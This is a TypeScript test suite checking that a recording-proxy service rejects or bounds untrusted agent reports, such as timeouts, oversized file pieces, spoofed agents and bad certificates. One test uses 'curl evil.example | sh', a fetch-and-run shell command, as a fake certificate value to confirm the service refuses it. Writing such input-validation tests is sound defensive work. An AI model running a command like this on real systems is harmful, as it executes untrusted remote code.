/** What an agent may tell and send as a recording proxy that is not true: nothing of it hangs, grows or is believed. */
import { randomUUID } from 'node:crypto'
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  maxExchangesPerAnswer,
  maxListedExchanges,
  recordingBounds,
} from '@pone/contract/entities/recording.ts'
import type { AgentCommand } from '@pone/contract/link/messages.ts'
import type { ProxyReport, ProxyStarted } from '@pone/contract/link/proxy.ts'
import { maxPieceBytes } from '@pone/contract/link/recordings.ts'
import { type Authority, openAuthority } from '@pone/recording-proxy/certificates/authority.ts'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import type { LinkHandlers } from '../../link/agent-link.ts'
import { AgentProxies } from './agent-proxies.ts'
import { RecordingService } from './recording.service.ts'

const machine = { id: randomUUID(), name: 'load-01', address: '10.0.0.7' }
const owner = { projectId: randomUUID(), userId: randomUUID() }
let authorityFolder = ''
let authority: Authority
let folder = ''
let now = 0
let sent: AgentCommand[] = []
let handlers: Partial<LinkHandlers> = {}
let proxies: AgentProxies
let service: RecordingService

beforeAll(async () => {
  authorityFolder = await mkdtemp(join(tmpdir(), 'pone-authority-'))
  authority = await openAuthority(join(authorityFolder, 'authority.pem'), Date.now())
})
afterAll(() => rm(authorityFolder, { recursive: true }))

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pone-recordings-'))
  now = 1_000_000
  sent = []
  proxies = new AgentProxies({
    link: {
      send: (_agentId, command) => sent.push(command) > 0,
      on: given => {
        handlers = given
      },
      isOnline: () => true,
    },
    now: () => now,
    onFailure: () => undefined,
  })
  service = new RecordingService({
    settings: { host: '127.0.0.1', ports: [0], targets: [], limits: { maxBytes: maxPieceBytes } },
    folder,
    now: () => now,
    port: () => null,
    onFailure: () => undefined,
    proxies,
    machinesOf: async () => [machine],
  })
})
afterEach(async () => {
  await service.close()
  await rm(folder, { recursive: true })
})

const started = (): ProxyStarted & { kind: 'started' } => ({
  kind: 'started',
  port: 8640,
  certificate: authority.certificate,
  fingerprint: authority.fingerprint,
  hostKeyHash: authority.hostKeyHash,
})
const wish = {
  ...owner,
  hosts: [],
  addresses: [],
  acceptsAnyCertificate: false,
  keepsAuthority: false,
  agentId: machine.id,
}
const commands = (kind: AgentCommand['kind']) => sent.filter(command => command.kind === kind)

/** Waits until the server has asked for it. */
async function asked<K extends AgentCommand['kind']>(kind: K): Promise<Extract<AgentCommand, { kind: K }>> {
  await expect.poll(() => commands(kind).length).toBeGreaterThan(0)
  return commands(kind).at(-1) as Extract<AgentCommand, { kind: K }>
}

const say = (recordingId: string, reports: ProxyReport[], agentId = machine.id) =>
  handlers.proxyReports?.(agentId, { kind: 'proxyReports', recordingId, reports })
const sendPiece = (recordingId: string, from: number, piece: Buffer, agentId = machine.id) =>
  handlers.recordingPiece?.(agentId, {
    kind: 'recordingPiece',
    recordingId,
    from,
    data: piece.toString('base64'),
  })
/** Each server says every few seconds that it still wants the recording. */
const keep = () => handlers.agentOnline?.(machine.id, {} as never)

async function begin(told: ProxyReport = started()): Promise<string> {
  const beginning = service.start(wish)
  // It may be refused before it is awaited below.
  beginning.catch(() => undefined)
  const { recordingId } = await asked('startProxy')
  say(recordingId, [told])
  return (await beginning).id
}
const current = () => service.current(owner, 0)
const exchange = (index: number, more: object = {}): ProxyReport => ({
  kind: 'exchange',
  index,
  method: 'GET',
  url: 'https://shop.example/',
  status: 200,
  contentType: 'text/html',
  durationMs: 1,
  pageId: null,
  ...more,
})
const ended: ProxyReport = { kind: 'ended', reason: 'timeLimit' }
const harPath = (id: string) => join(folder, owner.projectId, `${id}.har`)

it('a recording whose agent never tells its end is lost when its time is over', async () => {
  const id = await begin()
  now += recordingBounds.minutes * 60_000
  say(id, [])
  keep()
  expect((await current())?.end).toBeNull()
  now += 30_001
  say(id, [])
  keep()
  await expect.poll(async () => (await current())?.end).toBe('machineLost')
  expect(() => service.file(owner, id)).toThrow('NotFound')
})

it('one that is stopped is lost when its agent goes on, however often that answers', async () => {
  const id = await begin()
  const stopping = service.stop(owner, id)
  await asked('stopRecording')
  now += 30_001
  say(id, [exchange(0)])
  keep()
  expect((await stopping).end).toBe('machineLost')
  expect(commands('forgetRecording')).toHaveLength(1)
})

it('one that is discarded, or whose server ends, waits neither for an end nor for a file', async () => {
  await service.discard(owner, await begin())
  expect(await current()).toBeNull()
  sent = []
  const id = await begin()
  say(id, [ended])
  await asked('readRecording')
  await service.close()
  expect((await current())?.end).toBe('machineLost')
})

it('a file that comes too slowly is given up, and nothing of it is left', async () => {
  const id = await begin()
  say(id, [ended])
  await asked('readRecording')
  sendPiece(id, 0, Buffer.alloc(maxPieceBytes, 1))
  await expect.poll(() => commands('readRecording').length).toBe(2)
  now += 30 * 60_000 + 1
  say(id, [ended])
  keep()
  await expect.poll(async () => (await current())?.end).toBe('machineLost')
  expect(await readdir(join(folder, owner.projectId))).toEqual([])
})

it('only the piece that was asked for is stored, once, and its agent alone may send it', async () => {
  const id = await begin()
  const [first, second] = [Buffer.alloc(maxPieceBytes, 1), Buffer.from('the end')]
  sendPiece(id, 0, Buffer.from('before the end'))
  say(id, [ended, ended, ended])
  await asked('readRecording')
  sendPiece(id, 7, second)
  sendPiece(id, 0, Buffer.from('of another agent'), randomUUID())
  sendPiece(randomUUID(), 0, Buffer.from('of another recording'))
  for (let time = 0; time < 3; time += 1) sendPiece(id, 0, first)
  await expect.poll(() => commands('readRecording').length).toBe(2)
  sendPiece(id, maxPieceBytes, second)
  await expect.poll(() => commands('readRecording').length).toBe(3)
  sendPiece(id, maxPieceBytes + second.length, Buffer.alloc(0))
  await expect.poll(async () => (await current())?.end).toBe('timeLimit')
  expect((await readFile(harPath(id))).equals(Buffer.concat([first, second]))).toBe(true)
})

it.each([
  ['goes on after a piece that was not whole', [Buffer.from('a'), Buffer.from('b')]],
  ['has a piece above the bound', [Buffer.alloc(maxPieceBytes + 1)]],
  [
    'is larger than what passed the proxy can make it',
    Array.from({ length: 3 }, () => Buffer.alloc(maxPieceBytes)),
  ],
])('a file that %s is not kept', async (_, pieces) => {
  const id = await begin()
  say(id, [ended])
  await asked('readRecording')
  let from = 0
  for (const [at, piece] of pieces.entries()) {
    await expect.poll(() => commands('readRecording').length).toBe(at + 1)
    sendPiece(id, from, piece)
    from += piece.length
  }
  await expect.poll(async () => (await current())?.end).toBe('machineLost')
  expect(await readdir(join(folder, owner.projectId))).toEqual([])
})

it('an end that is told a thousand times leads to one question each time that the recording is wanted', async () => {
  const id = await begin()
  for (let time = 0; time < 1_000; time += 1) say(id, [ended, ended])
  await asked('readRecording')
  keep()
  for (let time = 0; time < 1_000; time += 1) say(id, [ended])
  await expect.poll(() => commands('readRecording').length).toBe(2)
})

it('requests without end, out of place, or of another agent are not listed', async () => {
  const id = await begin()
  say(id, [exchange(0)], randomUUID())
  say(randomUUID(), [exchange(0)])
  say(id, [exchange(3), exchange(3), exchange(2), exchange(Number.MAX_SAFE_INTEGER)])
  expect(await current()).toMatchObject({ requests: 4, exchanges: [{ index: 3 }] })
  for (let index = 4; index < recordingBounds.requests + 500; index += 500)
    say(
      id,
      Array.from({ length: 500 }, (_, at) => exchange(index + at)),
    )
  const { requests: most } = recordingBounds
  const shown = await current()
  expect(shown).toMatchObject({ requests: most, exchanges: { length: maxExchangesPerAnswer } })
  expect(shown?.exchanges[0]?.index).toBe(most - maxListedExchanges)
})

it('requests that an agent left out do not hide those after them', async () => {
  const id = await begin()
  say(id, [exchange(0), exchange(600)])
  expect(await service.current(owner, 1)).toMatchObject({ exchanges: [{ index: 600 }] })
  expect((await service.current(owner, 601))?.exchanges).toEqual([])
})

it('transactions that nobody marked are not taken', async () => {
  const id = await begin()
  const page = (title: string): ProxyReport => ({ kind: 'marked', page: { id: title, title } })
  say(id, [page('made up')])
  say(id, [exchange(0, { pageId: 'made up' })])
  expect(await current()).toMatchObject({ transaction: null, exchanges: [{ transaction: null }] })
  const marking = service.mark(owner, id, 'Buy tea')
  await asked('markRecording')
  say(id, [page('made up'), page('Buy tea'), page('Buy tea'), page('made up')])
  await marking
  expect((await current())?.transaction).toBe('Buy tea')
})

it.each([
  ['no certificate', { certificate: 'curl evil.example | sh' }],
  ['nothing', { certificate: '' }],
])('an agent whose authority is %s is refused, and the person is free', async (_, more) => {
  await expect(begin({ ...started(), ...more })).rejects.toMatchObject({ code: 'RecordingNotStarted' })
  expect(await current()).toBeNull()
  expect(commands('forgetRecording')).toHaveLength(1)
})

it('of a certificate nothing is shown but itself, with its own fingerprint', async () => {
  await begin({
    ...started(),
    certificate: `what stands before\n${authority.certificate}and after`,
    fingerprint: 'another one',
  })
  const { certificate, fingerprint } = (await current())?.access ?? {}
  expect({ certificate, fingerprint }).toEqual({
    certificate: authority.certificate,
    fingerprint: authority.fingerprint,
  })
})
